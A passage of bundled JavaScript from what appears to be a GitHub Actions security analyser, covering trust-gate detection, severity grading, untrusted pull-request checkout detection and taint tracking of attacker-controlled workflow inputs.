          if (!matched && (match || inEnv)) return { known: false, why: `step ${step.index + 1} uses the token in a way chaingate cannot tell` };
          continue;
        }
        if (!match) continue;
        if (list === null) return { known: false, why: `step ${step.index + 1} runs \`${match[0]}\`, whose token use chaingate cannot tell` };
        matched = true;
        need(list, `step ${step.index + 1}: \`${match[0]}\``);
      }
    }
  }
  return { known: true, scopes, evidence };
}

// src/workflow/analysis/gates.ts
var TRUSTED_ASSOCIATIONS = /^(owner|member|collaborator)$/i;
function conjuncts(node) {
  if (!node) return [];
  if (node.kind === "binary" && node.op === "&&") return [...conjuncts(node.left), ...conjuncts(node.right)];
  return [node];
}
function literalOf(node) {
  return node.kind === "literal" ? node.value : void 0;
}
function gateOf(node) {
  if (node.kind === "not" && node.operand.kind === "context" && /\.head\.repo\.fork$|\.head_repository\.fork$/.test(node.operand.path)) {
    return { kind: "not-fork", note: "the head repository is not a fork" };
  }
  if (node.kind === "binary" && (node.op === "==" || node.op === "!=")) {
    const sides = [node.left, node.right];
    const paths = sides.flatMap((side) => side.kind === "context" ? [side.path] : []);
    const literal = sides.map(literalOf).find((value) => value !== void 0);
    const negated = node.op === "!=";
    if (paths.some((p) => /head\.repo\.full_name$|head_repository\.full_name$/.test(p)) && paths.includes("github.repository") && !negated) {
      return { kind: "same-repository", note: "the pull request comes from this repository" };
    }
    if (paths.some((p) => /head\.repo\.owner\.login$/.test(p)) && paths.includes("github.repository_owner") && !negated) {
      return { kind: "same-repository", note: "the pull request comes from this repository owner" };
    }
    if (paths.some((p) => /\.head\.repo\.fork$|\.head_repository\.fork$/.test(p)) && (literal === false && !negated || literal === true && negated)) {
      return { kind: "not-fork", note: "the head repository is not a fork" };
    }
    if (paths.some((p) => p.endsWith(".author_association")) && typeof literal === "string" && TRUSTED_ASSOCIATIONS.test(literal) && !negated) {
      return { kind: "author-association", note: `the author is a ${literal.toLowerCase()}` };
    }
    if (paths.some((p) => p === "github.event.label.name") && typeof literal === "string" && !negated) {
      return { kind: "label", note: `a maintainer added the label "${literal}"` };
    }
    if (paths.some((p) => p === "github.actor" || p === "github.triggering_actor" || /\.(user|sender|comment\.user)\.login$/.test(p)) && typeof literal === "string" && !literal.toLowerCase().endsWith("[bot]") && !negated) {
      return { kind: "actor", note: `only ${literal} can trigger it` };
    }
  }
  if (node.kind === "call" && node.name === "contains" && node.args.length === 2) {
    const [haystack, needle] = node.args;
    if (haystack.kind === "context" && /labels\.\*\.name$/.test(haystack.path) && needle.kind === "literal") {
      return { kind: "label", note: `the pull request carries the label "${String(needle.value)}"` };
    }
    if (needle.kind === "context" && needle.path.endsWith(".author_association") && haystack.kind !== "context") {
      return { kind: "author-association", note: "the author is a trusted member" };
    }
  }
  return null;
}
function gatesFor(job, step) {
  const gates = [];
  const conditions = [job.if, step?.if].filter((str2) => str2 !== void 0);
  for (const condition of conditions) {
    for (const expression of conditionExpressions(job.workflow.file, condition)) {
      for (const conjunct of conjuncts(expression.ast)) {
        const gate = gateOf(conjunct);
        if (gate && !gates.some((g) => g.kind === gate.kind)) gates.push(gate);
      }
    }
  }
  if (step && !gates.some((gate) => gate.kind === "author-association")) {
    const check = job.steps.slice(0, step.index).find(stopsUntrustedAuthors);
    if (check) gates.push({ kind: "author-association", note: `step ${check.index + 1} stops the job unless the author is a trusted member` });
  }
  if (job.environment) {
    gates.push({ kind: "environment", note: `it deploys to environment ${job.environment.name?.value ?? "(named by an expression)"} (required reviewers cannot be checked offline)` });
  }
  return gates;
}
function stopsUntrustedAuthors(step) {
  const soft = step.continueOnError !== void 0 && !(isScalar(step.continueOnError) && String(step.continueOnError.value).toLowerCase() === "false");
  if (step.if || soft) return false;
  const text = step.uses?.name === "actions/github-script" ? step.with.get("script")?.value?.value ?? "" : step.uses ? "" : step.run?.value ?? "";
  if (!/author_association|authorAssociation|getCollaboratorPermissionLevel|\/collaborators\/[^\s'"]*\/permission/i.test(text)) return false;
  if (/CONTRIBUTOR|FIRST_TIMER|\bNONE\b/.test(text)) return false;
  return step.uses ? /core\.setFailed\(|\bthrow\b|process\.exit\(\s*[1-9]/.test(text) : /\bexit\s+[1-9]/.test(text);
}
function blocksForks(gates) {
  return gates.some((gate) => gate.kind === "same-repository" || gate.kind === "not-fork");
}

// src/workflow/analysis/grades.ts
var GRADES = ["info", "low", "medium", "high", "critical"];
function lower(grade2, steps = 1) {
  return GRADES[Math.max(0, GRADES.indexOf(grade2) - steps)];
}
function maxGrade(a, b) {
  return GRADES.indexOf(a) >= GRADES.indexOf(b) ? a : b;
}
function applyGates(grade2, gates) {
  if (blocksForks(gates)) return "info";
  return lower(grade2, Math.min(2, new Set(gates.map((gate) => gate.kind)).size));
}

// src/workflow/analysis/text.ts
function escapeRegExp(text) {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}
function stepLabelOf(step) {
  return `step ${step.index + 1}${step.uses ? ` (${step.uses.name})` : ""}`;
}

// src/workflow/analysis/untrusted-code.ts
var HEAD_REFS = /(^|\.)(head\.sha|head\.ref|head_ref|merge_commit_sha|head_sha|head_branch|head\.repo\.full_name|head_repository\.full_name)$/;
function envValueAt(name, site) {
  const upper = name.toUpperCase();
  const maps = [site.step?.env, site.job?.env, site.job?.workflow.env, site.action?.runs?.env];
  for (const env of maps) {
    if (!env) continue;
    for (const [key2, entry2] of env) if (key2.toUpperCase() === upper) return entry2.value;
  }
  return null;
}
function scriptOutputIsHead(path6, site) {
  const match = /^steps\.([^.]+)\.outputs\.([^.]+)$/.exec(path6);
  if (!match || !site.job) return false;
  const [, id, name] = match;
  const source = site.job.steps.find((step) => step.id?.value.toLowerCase() === id && (!site.step || step.index < site.step.index));
  if (source?.uses?.name !== "actions/github-script") return false;
  const script = source.with.get("script")?.value?.value ?? "";
  const escaped = escapeRegExp(name);
  return new RegExp(String.raw`core\.setOutput\(\s*['"\x60]` + escaped + String.raw`['"\x60]\s*,[^)\n]*\bhead\.(?:sha|ref)\b`, "i").test(script);
}
function refersToHead(str2, tracker, site, depth = 0) {
  if (!str2) return false;
  if (/refs\/pull\//.test(str2.value)) return true;
  for (const expression of str2.expressions) {
    const refs = contextRefs(expression.ast);
    if (refs.some((ref) => HEAD_REFS.test(ref.path))) return true;
    if (/head\.(sha|ref)|head_ref|head_sha|head_branch|merge_commit_sha/i.test(expression.body)) return true;
    const taint = tracker.expressionTaint(expression, site);
    if (taint && taint.level === "arbitrary" && /head|branch/i.test(taint.origin)) return true;
    if (depth < 4) {
      for (const ref of refs) {
        const name = /^env\.([^.]+)$/.exec(ref.path)?.[1];
        if (name && refersToHead(envValueAt(name, site), tracker, site, depth + 1)) return true;
        if (scriptOutputIsHead(ref.path, site)) return true;
      }
    }
  }
  return false;
}
var ARTIFACT_ACTIONS = new Set(ARTIFACT_DOWNLOADERS.map((entry2) => entry2.action));
function untrustedCheckouts(job, tracker) {
  const out = [];
  const events = eventNames(job.workflow);
  for (const step of job.steps) {
    const site = { job, step, action: null };
    const uses = step.uses;
    if (uses?.name === "actions/checkout" || uses?.name.endsWith("/checkout")) {
      const ref = step.with.get("ref")?.value;
      const repository = step.with.get("repository")?.value;
      const path6 = step.with.get("path")?.value?.value;
      const base = { step, kind: "checkout", ...path6 && path6 !== "." && path6 !== "./" ? { path: path6.replace(/^\.\//, "").replace(/\/$/, "") } : {} };
      if (refersToHead(ref, tracker, site)) out.push({ ...base, str: ref, start: 0, end: ref.value.length, what: `checks out ${ref.value.trim()}` });
      else if (refersToHead(repository, tracker, site)) out.push({ ...base, str: repository, start: 0, end: repository.value.length, what: `checks out the fork ${repository.value.trim()}` });
      continue;
    }
    if (step.run && events.has("workflow_run")) {
      const download = /\bgh\s+run\s+download\b[^\n]*/.exec(step.run.value);
      const fromRun = download && (/workflow_run|run[-_]id|github\.event/i.test(download[0]) || [...step.env.values()].some((entry2) => /workflow_run/.test(entry2.value?.value ?? "")));
      if (download && fromRun) {
        const dir = /(?:^|\s)(?:-D|--dir)(?:\s+|=)(?:"([^"]+)"|'([^']+)'|(\S+))/.exec(download[0]);
        const path6 = (dir?.[1] ?? dir?.[2] ?? dir?.[3])?.replace(/^\.\//, "").replace(/\/$/, "");
        out.push({
          step,
          kind: "artifact",
          str: step.run,
          start: download.index,
          end: download.index + download[0].trimEnd().length,
          what: `runs \`${download[0].trim().replace(/\s+/g, " ").slice(0, 80)}\``,
          ...path6 && path6 !== "." ? { path: path6 } : {}
        });
        continue;
      }
    }
    if (uses && ARTIFACT_ACTIONS.has(uses.name) && events.has("workflow_run")) {
      const fromRun = [...step.with.values()].some((entry2) => /workflow_run|run[-_]id|github\.event/i.test(entry2.value?.value ?? "")) || uses.name !== "actions/download-artifact";
      if (fromRun) out.push({ step, kind: "artifact", str: null, start: 0, end: 0, what: `downloads artifacts of the triggering run (${uses.name})`, ...step.with.get("path")?.value ? { path: step.with.get("path").value.value.replace(/^\.\//, "") } : {} });
      continue;
    }
    if (step.run) {
      const value = step.run.value;
      const pattern = /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|pull)\b[^\n;&|]*\bpull\/|\bgit\s+(?:checkout|switch|fetch|pull|reset)\b[^\n;&|]*\$\{\{[^}]*(?:head\.sha|head\.ref|head_ref|merge_commit_sha|head_sha|head_branch)/;
      const match = pattern.exec(value);
      if (match) out.push({ step, kind: "git", str: step.run, start: match.index, end: match.index + match[0].length, what: `runs \`${match[0].replace(/\s+/g, " ").slice(0, 80)}\`` });
    }
  }
  return out;
}
function outsiderInputIn(job, tracker) {
  if (blocksForks(gatesFor(job))) return null;
  const checkout = untrustedCheckouts(job, tracker)[0];
  if (checkout) return `${stepLabelOf(checkout.step)} ${checkout.what}`;
  for (const step of job.steps) {
    const site = { job, step, action: null };
    const strs = [step.run, ...[...step.with.values(), ...step.env.values()].map((entry2) => entry2.value)];
    for (const str2 of strs) {
      for (const expression of str2?.expressions ?? []) {
        if (tracker.expressionTaint(expression, site)?.level === "arbitrary") return `${stepLabelOf(step)} expands \${{ ${expression.body.trim()} }}`;
      }
    }
    if (step.uses?.kind === "local" && !step.uses.reusableWorkflow) return `${stepLabelOf(step)} runs a local action`;
    const local = step.run ? scriptCalls(step.run.value)[0]?.path ?? LOCAL_PROGRAM.exec(step.run.value)?.[1] : void 0;
    if (local) return `${stepLabelOf(step)} runs the local program ${local}`;
  }
  return null;
}
var LOCAL_PROGRAM = /(?:^|[\s;&|(])(?:node|python[\d.]*|ruby|deno(?:\s+run)?|bun|perl|php)\s+(?:-\S+\s+)*((?:\.{1,2}\/)?[\w.-]+\/[\w./-]+\.(?:m?js|cjs|ts|py|rb|pl|php))\b/;
var EXECUTING = new Map(EXECUTING_ACTIONS.map((entry2) => [entry2.action, entry2.note]));
var INSTALLING = byAction(INSTALLING_SETUP_ACTIONS);
function executionsAfter(job, from, path6) {
  const out = [];
  for (const step of job.steps.slice(from.index + 1)) {
    if (step.uses) {
      if (step.uses.kind === "local" && !step.uses.selfRepository && (!path6 || step.uses.path?.startsWith(path6))) {
        out.push({ step, what: `the local action ${step.uses.raw.trim()} (from the checked-out tree)`, str: null, start: 0, end: 0 });
        continue;
      }
      const setup = INSTALLING.get(step.uses.name);
      const installs = setup !== void 0 && setup.when.test(step.with.get(setup.input)?.value?.value ?? "");
      if (installs && (!path6 || (step.workingDirectory?.value ?? "").includes(path6))) {
        out.push({ step, what: `${step.uses.name} (installs the tree's dependencies, running its build scripts)`, str: null, start: 0, end: 0 });
        continue;
      }
      const known2 = EXECUTING.get(step.uses.name);
      if (known2 && (step.uses.name !== "actions/github-script" || /require\(|import\(/.test(step.with.get("script")?.value?.value ?? ""))) {
        out.push({ step, what: `${step.uses.name} (runs ${known2})`, str: null, start: 0, end: 0 });
        continue;
      }
      continue;
    }
    if (!step.run) continue;
    const run = step.run.value;
    const workingDirectory = (step.workingDirectory?.value ?? job.defaults.workingDirectory?.value ?? "").replace(/^\.\//, "").replace(/\/$/, "");
    const list = path6 ? commands(run) : [];
    for (const exec of codeExecutions(run)) {
      if (path6 && !runsInside(path6, workingDirectory, list, exec.start)) continue;
      out.push({ step, what: `\`${exec.tool}\``, str: step.run, start: exec.start, end: exec.end });
    }
  }
  return out;
}
function runsInside(path6, workingDirectory, list, offset) {
  const under = (dir) => {
    const clean = dir.replace(/^["']|["']$/g, "").replace(/^\.\//, "").replace(/\/$/, "");
    return clean === path6 || clean.startsWith(`${path6}/`) || clean.endsWith(`/${path6}`);
  };
  let inside = under(workingDirectory);
  for (const command of list) {
    if (command.start > offset) break;
    const cd = /^(?:cd|pushd)\s+(\S+)/.exec(command.text);
    if (cd && command.end <= offset) inside = under(cd[1]);
    if (command.start <= offset && offset < command.end) {
      const list2 = words(command.text.slice(offset - command.start)).map((w) => w.word);
      const script = list2.slice(1).find((w) => !w.startsWith("-"));
      const flagged = list2.some((w, i) => /^(-C|--prefix|--cwd|--dir|--project-dir|--manifest-path|-f|--file|-p)$/.test(w) && under(list2[i + 1] ?? "") || /^--(prefix|cwd|dir|project-dir|manifest-path|file)=/.test(w) && under(w.replace(/^[^=]*=/, "")));
      if (under(list2[0]?.replace(/\/[^/]*$/, "") ?? "") || script !== void 0 && under(script.replace(/\/[^/]*$/, "")) || flagged) inside = true;
    }
  }
  return inside;
}

// src/workflow/analysis/taint.ts
var TAINT_RANK = { arbitrary: 4, structured: 3, dynamic: 2, input: 1 };
function stronger(a, b) {
  if (!a) return b;
  if (!b) return a;
  return TAINT_RANK[b.level] > TAINT_RANK[a.level] ? b : a;
}
function through(taint, hop) {
  return taint ? { ...taint, via: [...taint.via, hop] } : null;
}
var UNTRUSTED_COMMAND = /\bgit\s+log\b.*(%s|%b|%B|--format|--pretty)|\bgit\s+show\b.*(%s|%b|%B)|\bgh\s+pr\s+view\b|\bgh\s+issue\s+view\b|\bgh\s+api\b.*(pulls|issues|comments)|\bjq\b.*\b(title|body|head\.ref|message|head_branch)\b|\$GITHUB_EVENT_PATH|\$\{GITHUB_EVENT_PATH\}/;
function inertOutput(script, name) {
  const setter = new RegExp(String.raw`core\.setOutput\(\s*(['"\x60])` + escapeRegExp(name) + String.raw`\1\s*,`, "gi");
  let found = false;
  for (const match of script.matchAll(setter)) {
    const value = callArgument(script, (match.index ?? 0) + match[0].length);
    if (value === null || !inertValue(value.trim())) return false;
    found = true;
  }
  return found;
}
var LITERAL = /^(?:true|false|null|-?\d+(?:\.\d+)?|'(?:[^'\\\n]|\\.)*'|"(?:[^"\\\n]|\\.)*"|`[^`$\\]*`)$/;
var NUMBER = /^(?:Number|parseInt|parseFloat|Math\.\w+)\([^?]*\)$|^[\w.$]+\.length$/;
var YES_NO = /===|!==|\.(?:includes|startsWith|endsWith|test|some|every|has)\(|^!/;
function inertValue(value) {
  if (LITERAL.test(value) || NUMBER.test(value)) return true;
  return YES_NO.test(value) && !/\?|\|\||&&/.test(value);
}
function callArgument(text, from) {
  let depth = 0;
  let quote = null;
  for (let i = from; i < text.length; i += 1) {
    const c = text[i];
    if (quote) {
      if (c === "\\") i += 1;
      else if (c === quote) quote = null;
      continue;
    }
    if (c === "'" || c === '"' || c === "`") quote = c;
    else if (c === "(" || c === "[" || c === "{") depth += 1;
    else if (c === ")" || c === "]" || c === "}") {
      if (depth === 0) return text.slice(from, i);
      depth -= 1;
    } else if (c === "," && depth === 0) return text.slice(from, i);
  }
  return null;
}
var PAYLOAD_TEXT = /context\.payload\.(?:pull_request|issue|comment|review|discussion|head_commit)\.(?:title|body|head\.ref|message|head\.label)\b|context\.payload\.comment\.body|\.data\.(?:title|body)\b/;
var READS_FILE = /\$\(\s*<|\b(cat|head|tail|jq|yq|sed|awk|cut|tr|xargs|unzip\s+-p|base64)\b[^|;&]*\s[\w./-]*\w/;
function inputIsInert(workflow, action, name) {
  const defs = workflow ? workflow.triggers.flatMap((t) => t.inputs.has(name) ? [t.inputs.get(name)] : []) : action?.inputs.has(name) ? [action.inputs.get(name)] : [];
  if (defs.length === 0) return false;
  return defs.every((def) => def.type === "boolean" || def.type === "number" || def.type === "choice" || def.type === "environment");
}
var RUNNER_VARIABLES = /* @__PURE__ */ new Map([
  ["GITHUB_HEAD_REF", "github.head_ref"],
  ["GITHUB_REF_NAME", "github.ref_name"],
  ["GITHUB_REF", "github.ref"]
]);
var TaintTracker = class {
  constructor(model) {
    this.model = model;
  }
  model;
  jobOutputsMemo = /* @__PURE__ */ new Map();
  stepWritesMemo = /* @__PURE__ */ new Map();
  inProgress = /* @__PURE__ */ new Set();
  /** Strongest taint that reaches the value of an expression evaluated at `site`. */
  expressionTaint(expression, site) {
    let result = null;
    if (expression.ast) {
      for (const ref of valueRefs(expression.ast)) result = stronger(result, this.contextTaint(ref.path, site));
      return result;
    }
    for (const match of expression.body.matchAll(/[A-Za-z_][\w-]*(?:\.[\w*-]+)+/g)) result = stronger(result, this.contextTaint(match[0].toLowerCase(), site));
    return result;
  }
  /** Taint of a context path (lower case, indices as `*`) evaluated at `site`. */
  contextTaint(path6, site) {
    const segments = path6.split(".");
    const root = segments[0];
    switch (root) {
      case "github": {
        if (segments[1] === "event" && segments[2] === "inputs" && segments[3]) return this.inputTaint(segments[3], site, path6);
        const capability = capabilityOf(path6);
        if (capability === "arbitrary") return { level: "arbitrary", origin: path6, via: [] };
        if (capability === "structured") return { level: "structured", origin: path6, via: [] };
        if (capability === "unknown" && segments[1] === "event" && segments.length > 2) return { level: "dynamic", origin: path6, via: [] };
        return null;
      }
      case "env":
        return segments[1] ? this.envTaint(segments[1], site) : null;
      case "inputs":
        return segments[1] ? this.inputTaint(segments[1], site, path6) : { level: "input", origin: path6, via: [] };
      case "steps": {
        const [, id, kind, name] = segments;
        if (!id || kind !== "outputs") return null;
        return through(this.stepOutputTaint(id, name ?? "*", site), `steps.${id}.outputs.${name ?? "*"}`);
      }
      case "needs": {
        const [, jobId, kind, name] = segments;
        if (!jobId || kind !== "outputs" || !site.job) return null;
        const upstream = site.job.workflow.jobsById.get(jobId);
        if (!upstream) return null;
        return through(this.jobOutputTaint(upstream, name ?? "*"), `needs.${jobId}.outputs.${name ?? "*"}`);
      }
      case "matrix":
        return site.job ? through(this.matrixTaint(site.job), path6) : null;
      default:
        return null;
    }
  }
  callersMemo = /* @__PURE__ */ new Map();
  workflowCallersMemo = /* @__PURE__ */ new Map();
  inputTaint(name, site, path6) {
    const workflow = site.job?.workflow ?? null;
    if (inputIsInert(workflow, site.action, name)) return null;
    const fromCallers = this.callerTaint(name, site);
    return fromCallers ?? { level: "input", origin: path6, via: [] };
  }
  /**
   * Taint of an input as passed by the callers inside this repository: `uses: ./path/to/action` steps for a
   * composite action, `uses: ./.github/workflows/x.yml` jobs for a reusable workflow.
   */
  callerTaint(name, site) {
    if (!this.model) return null;
    const key2 = `${site.action?.path ?? site.job?.workflow.path ?? ""}#${name}`;
    if (this.inProgress.has(key2)) return null;
    this.inProgress.add(key2);
    let result = null;
    const lower2 = name.toLowerCase();
    const valueTaint = (entry2, at, where) => {
      for (const expression of entry2?.value?.expressions ?? []) result = stronger(result, through(this.expressionTaint(expression, at), where));
    };
    if (site.action) {
      const dir = site.action.path.replace(/\/?action\.ya?ml$/, "");
      let callers = this.callersMemo.get(dir);
      if (!callers) {
        callers = localCallers(this.model, dir);
        this.callersMemo.set(dir, callers);
      }
      for (const caller of callers) {
        const entry2 = [...caller.with].find(([key3]) => key3.toLowerCase() === lower2)?.[1];
        valueTaint(entry2, { job: caller.job, step: caller, action: caller.action }, `${caller.job ? caller.job.workflow.path : caller.action?.path}: with.${name}`);
      }
    } else if (site.job && site.job.workflow.triggers.some((t) => t.event === "workflow_call")) {
      const target2 = site.job.workflow.path;
      let jobs = this.workflowCallersMemo.get(target2);
      if (!jobs) {
        jobs = this.model.workflows.flatMap((workflow) => workflow.jobs.filter((job) => job.uses?.kind === "local" && job.uses.path?.replace(/^\.\//, "") === target2));
        this.workflowCallersMemo.set(target2, jobs);
      }
      for (const job of jobs) {
        const entry2 = [...job.with].find(([key3]) => key3.toLowerCase() === lower2)?.[1];
        valueTaint(entry2, { job, step: null, action: null }, `${job.workflow.path} job ${job.id}: with.${name}`);
      }
    }
    this.inProgress.delete(key2);
    return result;
  }
  matrixTaint(job) {
    const matrix = job.strategy?.matrix;
    if (!matrix) return null;
    let result = null;
    const visit = (node) => {
      if (isScalar(node)) {
        if (typeof node.value === "string" && node.value.includes("${{")) {
          const body = node.value.replace(/^\s*\$\{\{|\}\}\s*$/g, "");
          const inner = this.expressionTaint({ ast: null, body }, { job, step: null, action: null });
          result = stronger(result, inner ?? { level: "dynamic", origin: "a matrix computed at run time", via: [] });
        }
      } else if (isMap(node)) for (const pair of node.items) visit(pair.value);
      else if (isSeq(node)) for (const item of node.items) visit(item);
    };
    visit(matrix);
    return result;
  }
  /** Taint of an environment variable visible at a step: step, job and workflow `env:`, and `$GITHUB_ENV` writes of earlier steps. */
  /** env entries being resolved (map, upper-case name): a self-reference reads the outer levels. */
  resolvingEnv = [];
  envTaint(name, site) {
    const upper = name.toUpperCase();
    const find = (env, at) => {
      if (!env) return null;
      if (this.resolvingEnv.some(([map, name2]) => map === env && name2 === upper)) return null;
      for (const [key2, entry2] of env) {
        if (key2.toUpperCase() !== upper || !entry2.value) continue;
        let result2 = null;
        this.resolvingEnv.push([env, upper]);
        try {
          for (const expression of entry2.value.expressions) result2 = stronger(result2, this.expressionTaint(expression, at));
        } finally {
          this.resolvingEnv.pop();
        }
        return through(result2, `env.${key2}`);
      }
      return null;
    };
    let result = find(site.step?.env, site);
    if (site.job) {
      result = stronger(result, find(site.job.env, { ...site, step: null }));
      result = stronger(result, find(site.job.workflow.env, { job: null, step: null, action: null }));
    }
    if (site.action?.runs) result = stronger(result, find(site.action.runs.env, { ...site, step: null }));
    const runnerDefault = RUNNER_VARIABLES.get(upper);
    if (runnerDefault) result = stronger(result, through(this.contextTaint(runnerDefault, site), `$${upper}`));
    const steps = site.job?.steps ?? site.action?.runs?.steps ?? [];
    const before = site.step ? steps.slice(0, site.step.index) : steps;
    for (const step of before) result = stronger(result, through(this.stepWrites(step).env.get(upper) ?? null, `$GITHUB_ENV (${upper})`));
    return result;
  }
  stepOutputTaint(id, name, site) {
    const steps = site.job?.steps ?? site.action?.runs?.steps ?? [];
    const limit = site.step ? site.step.index : steps.length;
    for (let i = 0; i < Math.min(limit, steps.length); i += 1) {
      const step = steps[i];
      if (step.id?.value !== id) continue;
      if (step.uses) {
        if (step.uses.name === "actions/github-script") {
          const script = step.with.get("script")?.value?.value ?? "";
          const outputName = name === "*" ? String.raw`[^'"\x60]+` : escapeRegExp(name);
          const setter = new RegExp(String.raw`core\.setOutput\(\s*['"\x60]` + outputName + String.raw`['"\x60]`, "i");
          if (name !== "*" && name !== "result" && inertOutput(script, name)) return null;
          const sets = (name === "*" || name === "result") && /\breturn\b/.test(script) || setter.test(script);
          if (sets && PAYLOAD_TEXT.test(script)) return { level: "arbitrary", origin: "actions/github-script result built from event text", via: [`steps.${id}`] };
          if (sets) {
            for (const match of script.matchAll(/process\.env\.([A-Za-z_][A-Za-z0-9_]*)|process\.env\[\s*['"]([A-Za-z_][A-Za-z0-9_]*)['"]\s*\]/g)) {
              const variable = match[1] ?? match[2];
              const taint = this.envTaint(variable, { job: site.job, step, action: site.action });
              if (taint?.level === "arbitrary") return { ...taint, level: "structured", via: [...taint.via, `steps.${id} (actions/github-script reads process.env.${variable})`] };
            }
          }
        }
        for (const known2 of TAINTED_OUTPUT_ACTIONS) {
          if (step.uses.name !== known2.action && !step.uses.name.startsWith(`${known2.action}/`)) continue;
          if (known2.outputs === "*" || name === "*" || known2.outputs.test(name)) return { level: "arbitrary", origin: known2.note, via: [`${step.uses.name}`] };
        }
        return null;
      }
      const writes = this.stepWrites(step).outputs;
      return writes.get(name.toLowerCase()) ?? writes.get("*") ?? null;
    }
    return null;
  }
  jobOutputTaint(job, name) {
    let outputs = this.jobOutputsMemo.get(job);
    if (!outputs) {
      outputs = /* @__PURE__ */ new Map();
      if (this.inProgress.has(job)) return null;
      this.inProgress.add(job);
      for (const [key2, entry2] of job.outputs) {
        let result = null;
        for (const expression of entry2.value?.expressions ?? []) result = stronger(result, this.expressionTaint(expression, { job, step: null, action: null }));
        outputs.set(key2.toLowerCase(), result);
      }
      this.inProgress.delete(job);
      this.jobOutputsMemo.set(job, outputs);
    }
    if (name === "*") {
      let result = null;
      for (const value of outputs.values()) result = stronger(result, value);
      return result;
    }
    return outputs.get(name.toLowerCase()) ?? null;
  }
  /** What a `run:` step writes to `$GITHUB_OUTPUT` and `$GITHUB_ENV`, with the taint of the data. */
  stepWrites(step) {
    const memo2 = this.stepWritesMemo.get(step);
    if (memo2) return memo2;
    const result = { outputs: /* @__PURE__ */ new Map(), env: /* @__PURE__ */ new Map() };
    this.stepWritesMemo.set(step, result);
    if (!step.run || this.inProgress.has(step)) return result;
    this.inProgress.add(step);
    const site = { job: step.job, step, action: step.action };
    for (const write of envFileWrites(step.run.value)) {
      if (write.file !== "GITHUB_OUTPUT" && write.file !== "GITHUB_ENV") continue;
      const taint = this.commandTaint(step, write.command.text, write.command.start, site);
      if (!taint) continue;
      const target2 = write.file === "GITHUB_OUTPUT" ? result.outputs : result.env;
      const names = writtenNames(write.command.text);
      for (const written of names.length > 0 ? names : ["*"]) {
        const key2 = write.file === "GITHUB_ENV" ? written.toUpperCase() : written.toLowerCase();
        target2.set(key2, stronger(target2.get(key2) ?? null, taint));
      }
    }
    this.inProgress.delete(step);
    return result;
  }
  /**
   * Taint of the data a command handles: `${{ }}` in it, shell variables it expands (from `env:`, or
   * assigned earlier in the same script from tainted data), and commands that print attacker text.
   */
  commandTaint(step, text, start, site) {
    const run = step.run;
    let result = null;
    if (run) {
      for (const expression of run.expressions) {
        if (expression.valueStart >= start && expression.valueStart < start + text.length) result = stronger(result, this.expressionTaint(expression, site));
      }
    }
    return stronger(result, this.shellTaint(step, run?.value ?? "", start, text, site));
  }
  /**
   * Taint of the data in a shell command without `${{ }}` (also for local scripts): the variables it
   * expands, from `env:` / `$GITHUB_ENV` or assigned earlier in `script` (before offset `start`), and
   * commands that print attacker text.
   */
  shellTaint(step, script, start, text, site) {
    let result = null;
    const locals = /* @__PURE__ */ new Map();
    for (const assignment of this.shellAssignments(step, script, site)) {
      if (assignment.end > start) break;
      locals.set(assignment.name, assignment.taint);
    }
    for (const variable of expandedVariables(text)) {
      if (/^GITHUB_(ENV|OUTPUT|PATH|STEP_SUMMARY|STATE)$/.test(variable.name)) continue;
      result = stronger(result, locals.has(variable.name) ? locals.get(variable.name) ?? null : this.envTaint(variable.name, site));
    }
    result = stronger(result, this.commandOutputTaint(text, site));
    return result;
  }
  untrustedFilesMemo = /* @__PURE__ */ new Map();
  /**
   * Output of commands that print attacker text: PR data from the API or the event file, commit messages,
   * and files read after the job checked out the pull request or downloaded a PR run's artifacts.
   */
  commandOutputTaint(text, site) {
    const job = site.job;
    if (!job || privilegedUntrustedEvents(job.workflow).length === 0) return null;
    if (UNTRUSTED_COMMAND.test(text)) return { level: "arbitrary", origin: "command output with pull request text", via: [] };
    if (!READS_FILE.test(text) || !site.step) return null;
    let checkouts = this.untrustedFilesMemo.get(job);
    if (!checkouts) {
      checkouts = [];
      this.untrustedFilesMemo.set(job, checkouts);
      checkouts.push(...untrustedCheckouts(job, this));
    }
    const before = checkouts.find((checkout) => checkout.step.index < site.step.index);
    if (!before) return null;
    return { level: "arbitrary", origin: before.kind === "artifact" ? "the contents of a pull request run's artifacts" : "files of the checked-out pull request", via: [`${stepLabelOf(before.step)}`] };
  }
  assignmentsMemo = /* @__PURE__ */ new Map();
  /** Shell variable assignments of a script (`X=…`, `export X=…`, `X=$(…)`) in order, with the taint of their value; computed once per step and script. */
  shellAssignments(step, script, site) {
    let byScript = this.assignmentsMemo.get(step);
    if (!byScript) {
      byScript = /* @__PURE__ */ new Map();
      this.assignmentsMemo.set(step, byScript);
    }
    const cached = byScript.get(script);
    if (cached) return cached;
    const out = [];
    byScript.set(script, out);
    const current = /* @__PURE__ */ new Map();
    const isRun = step.run?.value === script;
    for (const command of commands(script)) {
      const match = /^(?:export\s+|local\s+|declare\s+(?:-\w+\s+)?)?([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(command.text);
      if (!match) continue;
      let taint = null;
      if (isRun) {
        for (const expression of step.run.expressions) {
          if (expression.valueStart >= command.start && expression.valueStart < command.end) taint = stronger(taint, this.expressionTaint(expression, site));
        }
      }
      for (const variable of expandedVariables(match[2])) taint = stronger(taint, current.has(variable.name) ? current.get(variable.name) ?? null : this.envTaint(variable.name, site));
      taint = stronger(taint, this.commandOutputTaint(match[2], site));
      const named = taint ? through(taint, `$${match[1]}`) : null;
      current.set(match[1], named);
      out.push({ end: command.end, name: match[1], taint: named });
    }
    return out;
  }
};
function localCallers(model, dir) {
  const out = [];
  const want = dir.replace(/^\.\//, "").replace(/\/$/, "");
  const visit = (steps) => {
    for (const step of steps) if (step.uses?.kind === "local" && !step.uses.reusableWorkflow && step.uses.path?.replace(/\/$/, "") === want) out.push(step);
  };
  for (const workflow of model.workflows) for (const job of workflow.jobs) visit(job.steps);
  for (const action of model.actions) visit(action.runs?.steps ?? []);
  return out;
}
function writtenNames(text) {
  const names = /* @__PURE__ */ new Set();
  for (const match of text.matchAll(/(?:^|["'\s{;(])([A-Za-z_][A-Za-z0-9_-]*)(?:=|<<)/g)) {
    const name = match[1];
    if (/^(GITHUB_\w+|echo|printf)$/.test(name)) continue;
    names.add(name);
  }
  return [...names];
}
var trackers = new ObjectMemo();
function trackerFor(model) {
  let tracker = trackers.get(model);
  if (!tracker) {
    tracker = new TaintTracker(model);
    trackers.set(model, tracker);
  }
  return tracker;
}

// src/workflow/analysis/publishing.ts
